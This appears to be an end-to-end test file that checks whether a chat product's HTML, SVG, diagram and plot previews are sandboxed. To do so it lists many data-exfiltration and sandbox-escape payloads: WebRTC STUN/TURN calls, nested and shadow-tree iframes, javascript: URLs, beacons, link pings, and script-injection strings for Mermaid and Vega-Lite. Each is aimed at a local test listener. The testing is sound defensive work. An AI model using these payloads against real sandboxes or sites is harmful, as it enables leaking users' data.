import { createSocket } from "node:dgram";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { type BrowserContext, chromium, type Page } from "@playwright/test";
import { test as base, type client, expect, signIn } from "@/test/test";

const log = (page: Page) => page.getByRole("log", { name: "Messages" });

/** Listens on a port and records connections, requests and datagrams, including empty ones. */
async function listener() {
  const heard: string[] = [];
  const server = createServer(({ method, url }, response) => {
    heard.push(`${method} ${url}`);
    response.setHeader("access-control-allow-origin", "*").end("<p>Away</p>");
  });
  server.on("connection", () => heard.push("connection"));
  const socket = createSocket("udp4").on("message", () => heard.push("datagram"));
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  await new Promise<void>((resolve) => socket.bind(0, "127.0.0.1", resolve));
  const host = `127.0.0.1:${(server.address() as AddressInfo).port}`;
  const close = () => {
    server.close().closeAllConnections();
    socket.close();
  };
  return { heard, close, host, url: `http://${host}`, datagrams: `127.0.0.1:${socket.address().port}` };
}
type Target = Pick<Awaited<ReturnType<typeof listener>>, "host" | "url" | "datagrams">;

const run = (code: string) => `<script>${code}</script>`;
const click = (attributes: string) => `<a id="a" ${attributes}>a</a>${run("a.click()")}`;
const call = (servers: string) =>
  `const call = new RTCPeerConnection({ iceServers: [${servers}] }); call.createDataChannel("a"); call.createOffer().then((offer) => call.setLocalDescription(offer))`;
const inFrame = (html: string) =>
  run(
    `const frame = document.createElement("iframe"); frame.srcdoc = ${JSON.stringify(html).replaceAll("</", "<\\/")}; document.documentElement.append(frame)`,
  );

/** Exfiltration attempts, each of which works in an ordinary page. */
type Ways = Record<string, (to: Target) => string>;

/** Tested separately, because Chromium may kill the process of all previews. */
const CALLS: Ways = {
  "a call by STUN": ({ datagrams }) => run(call(`{ urls: "stun:${datagrams}" }`)),
  "a call by TURN": ({ host }) =>
    run(call(`{ urls: "turn:${host}?transport=tcp", username: "a", credential: "a" }`)),
  "a call in a frame": ({ datagrams }) => inFrame(run(call(`{ urls: "stun:${datagrams}" }`))),
};

const quoted = (html: string) => JSON.stringify(html).replaceAll("</", "<\\/");
const calling = ({ datagrams }: Target) => call(`{ urls: "stun:${datagrams}" }`);
const srcdoc = (to: Target) => `<iframe srcdoc="${run(calling(to)).replaceAll('"', "&quot;")}"></iframe>`;
const declared = (to: Target) =>
  `<div><template shadowrootmode="open" shadowrootclonable>${srcdoc(to)}</template></div>`;

/** Attempts through nested windows, where APIs removed from the preview's window would exist again. */
const NESTED_CALLS: Ways = {
  "the window itself": (to) => run(calling(to)),
  "a frame of the page": srcdoc,
  "a frame of a script": (to) => inFrame(run(calling(to))),
  "a handler in a frame": (to) => inFrame(`<img src="data:," onerror='${calling(to)}'>`),
  "the window of an empty frame": (to) =>
    run(
      `const frame = document.createElement("iframe"); document.documentElement.append(frame); const { RTCPeerConnection } = frame.contentWindow; ${calling(to)}`,
    ),
  "a frame of an address of a script": (to) => `<iframe src='javascript:${calling(to)}'></iframe>`,
  "a page of an address of a script": (to) =>
    run(`location.href = ${quoted(`javascript:'${run(calling(to))}'`)}`),
  "a frame in a shadow tree": (to) =>
    `<div id="host"></div>${run(`host.attachShadow({ mode: "closed" }).innerHTML = ${quoted(srcdoc(to))}`)}`,
  "a frame in a clone of a shadow tree": (to) =>
    `<div id="host"></div>${run(`host.attachShadow({ mode: "open", clonable: true }).innerHTML = ${quoted(srcdoc(to))}; document.body.append(host.cloneNode(true))`)}`,
  "a frame in a shadow tree of another document": (to) =>
    run(
      `const host = document.implementation.createHTMLDocument().createElement("div"); host.attachShadow({ mode: "closed" }).innerHTML = ${quoted(srcdoc(to))}; document.documentElement.append(host)`,
    ),
  "a frame in a declared shadow tree": declared,
  "a frame in a shadow tree that is declared in pieces": (to) =>
    `${run('document.write("<div><template shadowroot")')}mode="open">${srcdoc(to)}</template></div>`,
  "a frame in a shadow tree that is declared by a method": (to) =>
    `<p id="host"></p>${run(`host.setHTMLUnsafe(${quoted(declared(to))})`)}`,
  "a frame while a script is busy": (to) =>
    `${inFrame(run(calling(to)))}${run("const end = performance.now() + 500; while (performance.now() < end);")}`,
  "a frame where methods were replaced": (to) =>
    `${run("Element.prototype.remove = Document.prototype.querySelector = Reflect.apply = () => null; RegExp.prototype.exec = () => null; Object.prototype.childList = false")}${inFrame(run(calling(to)))}`,
  "a frame of a page that is opened anew": (to) =>
    run(
      `addEventListener("load", () => { document.open(); document.write(${quoted(srcdoc(to))}); document.close(); })`,
    ),
};

const REQUESTS: Ways = {
  fetch: ({ url }) => run(`fetch("${url}")`),
  XMLHttpRequest: ({ url }) => run(`const x = new XMLHttpRequest(); x.open("GET", "${url}"); x.send()`),
  sendBeacon: ({ url }) => run(`navigator.sendBeacon("${url}", "a")`),
  WebSocket: ({ host }) => run(`new WebSocket("ws://${host}")`),
  EventSource: ({ url }) => run(`new EventSource("${url}")`),
  image: ({ url }) => `<img src="${url}">`,
  "image of a script": ({ url }) => run(`new Image().src = "${url}"`),
  "image of SVG": ({ url }) => `<svg><image href="${url}" width="9" height="9"/></svg>`,
  video: ({ url }) => `<video src="${url}" autoplay muted></video>`,
  poster: ({ url }) => `<video poster="${url}"></video>`,
  script: ({ url }) => `<script src="${url}"></script>`,
  "import()": ({ url }) => run(`import("${url}")`),
  Worker: ({ url }) => run(`new Worker(URL.createObjectURL(new Blob(["fetch('${url}')"])))`),
  stylesheet: ({ url }) => `<link rel="stylesheet" href="${url}">`,
  "@import": ({ url }) => `<style>@import "${url}";</style>`,
  "url()": ({ url }) => `<style>body { background: url(${url}) }</style>`,
  font: ({ url }) =>
    `<style>@font-face { font-family: a; src: url(${url}) } p { font-family: a }</style><p>a</p>`,
  preconnect: ({ url }) => `<link rel="preconnect" href="${url}">`,
  "preconnect of a script": ({ url }) =>
    run(
      `const link = document.createElement("link"); link.rel = "preconnect"; link.href = "${url}"; document.head.append(link)`,
    ),
  prefetch: ({ url }) => `<link rel="prefetch" href="${url}">`,
  preload: ({ url }) => `<link rel="preload" as="script" href="${url}">`,
  modulepreload: ({ url }) => `<link rel="modulepreload" href="${url}">`,
  object: ({ url }) => `<object data="${url}"></object>`,
  embed: ({ url }) => `<embed src="${url}">`,
  frame: ({ url }) => `<iframe src="${url}"></iframe>`,
  "fetch in a frame": ({ url }) => inFrame(run(`fetch("${url}")`)),
  "a frame that is led away": ({ url }) =>
    run(
      `const frame = document.createElement("iframe"); document.documentElement.append(frame); frame.contentWindow.location = "${url}"`,
    ),
};

const LINKS: Ways = {
  form: ({ url }) => `<form id="f" action="${url}" method="post"></form>${run("f.submit()")}`,
  location: ({ url }) => run(`location.href = "${url}"`),
  "location of data": ({ url }) => run(`location.href = "data:text/html,<img src='${url}'>"`),
  "location of a blob": ({ url }) =>
    run(`location.href = URL.createObjectURL(new Blob(["<img src='${url}'>"], { type: "text/html" }))`),
  refresh: ({ url }) => `<meta http-equiv="refresh" content="0;url=${url}">`,
  link: ({ url }) => click(`href="${url}"`),
  "link to the top": ({ url }) => click(`href="${url}" target="_top"`),
  "link to a window": ({ url }) => click(`href="${url}" target="_blank"`),
  ping: ({ url }) => click(`href="#a" ping="${url}"`),
  "link to a file": ({ url }) => click(`href="${url}" download`),
  open: ({ url }) => run(`open("${url}")`),
  "location of the top": ({ url }) => run(`top.location = "${url}"`),
};

const test = base.extend<{ context: BrowserContext }>({
  // Full Chromium with a profile, which opens connections speculatively; a private window does not.
  context: async ({ launchOptions, baseURL, viewport }, use) => {
    const context = await chromium.launchPersistentContext("", {
      ...launchOptions,
      args: launchOptions.args?.filter((arg) => arg !== "--disable-background-networking"),
      ignoreDefaultArgs: ["--disable-background-networking"],
      ...{ baseURL, viewport },
    });
    await use(context);
    await context.close();
  },
});

/**
 * Runs each page as a preview, and waits until all have started.
 * @returns console output by page
 */
async function preview(page: Page, api: ReturnType<typeof client>, pages: string[]): Promise<string[][]> {
  const chat = (await api.post("/chats", { name: "Previews", virtual_assistant_id: null })).body;
  const said: string[][] = pages.map(() => []);
  page.on("console", (line) => {
    const [, index, words] = /^preview (\d+): (.*)/s.exec(line.text()) ?? [];
    if (index) said[Number(index)]!.push(words!);
  });
  const say = (index: number) =>
    `<script>const say = (words) => console.debug("preview ${index}: " + words)</script>`;
  const blocks = pages.map(
    (html, index) => `\`\`\`html\n<!doctype html>${say(index)}${run('say("begun")')}${html}\n\`\`\``,
  );
  await api.multipart(`/chats/${chat.id}/messages`, { message_input: blocks.join("\n\n") });
  await page.goto(`/chats/${chat.uuid}`);
  for (const index of pages.keys()) {
    const figure = log(page).locator("figure").nth(index);
    await figure.scrollIntoViewIfNeeded();
    await figure.getByRole("button", { name: "Run preview" }).click();
  }
  const silent = () => said.flatMap((words, index) => (words.includes("begun") ? [] : [pages[index]]));
  await expect.poll(silent, "previews that did not run").toEqual([]);
  return said;
}

/** Removes the `Connection-Allowlist` header, to simulate browsers that do not support it. */
const forgetAllowlist = (page: Page) =>
  page.route("**/preview", async (route) => {
    const response = await route.fetch();
    const { "connection-allowlist": _, ...headers } = response.headers();
    await route.fulfill({ response, headers });
  });

/** Displays a page in an unconfined frame. */
async function ordinarily(page: Page, html: string): Promise<void> {
  const address = "http://localhost:4321/";
  await page.route(`${address}**`, (route) =>
    route.fulfill({
      contentType: "text/html",
      body: route.request().url() === address ? '<iframe src="/page"></iframe>' : `<!doctype html>${html}`,
    }),
  );
  await page.goto(address, { waitUntil: "commit" });
}

for (const [title, ways] of [
  ["a call in a browser without Connection-Allowlist", NESTED_CALLS] as const,
  ["a request or a hint", REQUESTS] as const,
  ["a link, a form or an address", LINKS] as const,
  ...Object.entries(CALLS).map(([name, html]) => [name, { [name]: html }] as const),
])
  test(`a preview sends nothing out by ${title}`, async ({ context, product, someone }) => {
    const attempts = await Promise.all(
      Object.entries(ways).map(async ([name, html]) => {
        const [confined, free] = await Promise.all([listener(), listener()]);
        return { name, html, confined, free };
      }),
    );
    const page = await context.newPage();
    if (ways === NESTED_CALLS) await forgetAllowlist(page);
    await signIn(page, product.url, someone.email);
    const pages = attempts.map(({ html, confined }) => html(confined));
    await preview(page, someone.api, pages);
    const address = page.url();
    // Delayed requests have time to arrive while the others are tested.
    for (const { name, html, free } of attempts) {
      const ordinary = await context.newPage();
      await ordinarily(ordinary, html(free));
      await expect.poll(() => free.heard.length, `${name} of an ordinary page`).toBeGreaterThan(0);
      await ordinary.close();
    }
    const heard = attempts.filter(({ confined }) => confined.heard.length > 0);
    expect(heard.map(({ name, confined }) => [name, ...confined.heard])).toEqual([]);
    expect(page.url()).toBe(address);
    for (const { confined, free } of attempts) for (const { close } of [confined, free]) close();
  });

test("an HTML preview opens, requests and stores nothing, and cannot read the workspace", async ({
  context,
  product,
  someone,
}) => {
  const events: string[] = [];
  context.on("page", (page) => {
    page.on("dialog", (dialog) => {
      events.push("dialog");
      void dialog.dismiss();
    });
    page.on("download", () => events.push("download"));
    page.on("popup", () => events.push("window"));
  });
  const acts = {
    dialog: run('alert("a"); prompt("a"); confirm("a")'),
    window: run("open()"),
    download: run(
      'const link = document.createElement("a"); link.download = "a"; link.href = URL.createObjectURL(new Blob(["a"])); link.click()',
    ),
  };
  const page = await context.newPage();
  await signIn(page, product.url, someone.email);
  const knows = [
    "new SharedWorker('data:text/javascript,')",
    "document.cookie",
    "localStorage.length",
    "parent.document.title",
    "top.document.cookie",
  ];
  const asked = knows.map((what) => run(`try { say(${what}) } catch ({ name }) { say(name) }`));
  const fetched = run('fetch("/api/v1/users/me").then(() => say("answered"), () => say("refused"))');
  const said = await preview(page, someone.api, [...Object.values(acts), ...asked, fetched]);
  await expect.poll(() => said.slice(3, -1)).toEqual(knows.map(() => ["begun", "SecurityError"]));
  await expect.poll(() => said.at(-1)).toContain("refused");
  expect(events).toEqual([]);
  for (const [event, html] of Object.entries(acts)) {
    events.length = 0;
    const ordinary = await context.newPage();
    await ordinarily(ordinary, html);
    await expect.poll(() => events).toContain(event);
  }
});

test("an HTML preview supports handlers, shadow trees, dynamic scripts and document.write", async ({
  context,
  product,
  someone,
}) => {
  const page = await context.newPage();
  await signIn(page, product.url, someone.email);
  const works = [
    `<b id="a" onclick="say('attribute')">a</b>${run("a.click()")}`,
    `<p id="a"></p>${run('a.innerHTML = "<b onclick=\\"say(\'markup\')\\">a</b>"; a.firstChild.click()')}`,
    `<p id="a"></p>${run('const { textContent } = a.attachShadow({ mode: "open" }).appendChild(document.createElement("slot")); say("shadow" + textContent)')}`,
    run(
      'const script = document.createElement("script"); script.textContent = "say(\'script\')"; document.documentElement.append(script)',
    ),
    run('document.write("<p id=a>items</p>"); document.writeln("<p>", "more</p>"); say(a.textContent)'),
  ];
  const said = await preview(page, someone.api, works);
  const words = ["attribute", "markup", "shadow", "script", "items"];
  await expect.poll(() => said).toEqual(words.map((word) => ["begun", word]));
});

test("an HTML preview with an endless loop doesn't block the page", async ({ signedIn: page, someone }) => {
  const chat = (await someone.api.post("/chats", { name: "Endless", virtual_assistant_id: null })).body;
  const html = "<h1>Begun</h1><script>setTimeout(() => { console.debug('begun'); for (;;); })</script>";
  await someone.api.multipart(`/chats/${chat.id}/messages`, { message_input: `\`\`\`html\n${html}\n\`\`\`` });
  await page.goto(`/chats/${chat.uuid}`);
  const begun = page.waitForEvent("console", (line) => line.text() === "begun");
  await log(page).getByRole("button", { name: "Run preview" }).click();
  await begun;
  await page.getByRole("textbox", { name: "Message", exact: true }).fill("Still here");
  await page.getByRole("button", { name: "Send", exact: true }).click();
  await expect(log(page).getByText("Still here")).toBeVisible();
});

test("an SVG image runs and loads nothing", async ({ signedIn: page, someone }) => {
  const outside = await listener();
  const { url } = outside;
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="top.location='${url}'"><script>fetch("${url}")</script><image href="${url}" width="9" height="9"/><style>@import "${url}";</style><foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${url}"/></foreignObject></svg>`;
  const chat = (await someone.api.post("/chats", { name: "Images", virtual_assistant_id: null })).body;
  await someone.api.multipart(`/chats/${chat.id}/messages`, { message_input: `\`\`\`svg\n${svg}\n\`\`\`` });
  await page.goto(`/chats/${chat.uuid}`);
  const address = page.url();
  const image = page.frameLocator('iframe[title="Preview of image.svg"]').locator("img");
  await expect.poll(() => image.evaluate((shown: HTMLImageElement) => shown.naturalWidth)).toBe(9);
  // Opened as an ordinary page, the same image sends requests.
  const ordinary = await page.context().newPage();
  const free = await listener();
  await ordinarily(ordinary, svg.replaceAll(url, free.url));
  await expect.poll(() => free.heard.length).toBeGreaterThan(0);
  expect(outside.heard).toEqual([]);
  expect(page.url()).toBe(address);
  for (const { close } of [outside, free]) close();
});

test("diagrams and plots run no code of their author and load nothing", async ({
  signedIn: page,
  someone,
}) => {
  const outside = await listener();
  const { url } = outside;
  const html = `<img src="${url}" onerror="fetch('${url}')"><b onclick="top.location='${url}'">Label</b><script>top.location='${url}'</script>`;
  const diagrams = [
    `flowchart LR\n  A["${html.replaceAll('"', "'")}"] --> B\n  click B href "javascript:top.location='${url}'"\n  click A call fetch("${url}")`,
    `%%{init: {"securityLevel": "loose", "themeCSS": "* { background: url(${url}) } @import '${url}';"}}%%\nflowchart LR\n  A["<img src='${url}'>"]`,
    `flowchart LR\n  A@{ img: "${url}", label: "Label" }`,
    `flowchart LR\n  A["</script><script>top.location='${url}'</script><!--<script>"] --> B`,
  ].map((code) => `\`\`\`mermaid\n${code}\n\`\`\``);
  const data = { values: [{ a: 1, b: url, c: `javascript:top.location='${url}'` }] };
  const plots = [
    { data, mark: "image", encoding: { url: { field: "b" }, x: { field: "a" } } },
    { data, mark: "bar", encoding: { href: { field: "c" }, x: { field: "a", type: "quantitative" } } },
    {
      data,
      mark: "point",
      transform: [{ calculate: `constructor.constructor("fetch('${url}')")()`, as: "d" }],
    },
    { data: { url }, mark: "point" },
    { data, mark: "bar", title: `</script><script>top.location='${url}'</script><!--<script>` },
  ].map((spec) => `\`\`\`vega-lite\n${JSON.stringify(spec)}\n\`\`\``);
  const blocks = [...diagrams, ...plots];
  const chat = (await someone.api.post("/chats", { name: "Drawings", virtual_assistant_id: null })).body;
  await someone.api.multipart(`/chats/${chat.id}/messages`, { message_input: blocks.join("\n\n") });
  await page.goto(`/chats/${chat.uuid}`);
  const address = page.url();
  for (const at of blocks.keys()) {
    const figure = log(page).locator("figure").nth(at);
    await figure.scrollIntoViewIfNeeded();
    const drawn = figure.frameLocator("iframe").locator("#place svg").first();
    const fault = figure.getByText("Couldn't render this.");
    await expect.poll(async () => (await fault.isVisible()) || (await drawn.isVisible())).toBe(true);
  }
  expect(outside.heard).toEqual([]);
  expect(page.url()).toBe(address);
  outside.close();
});
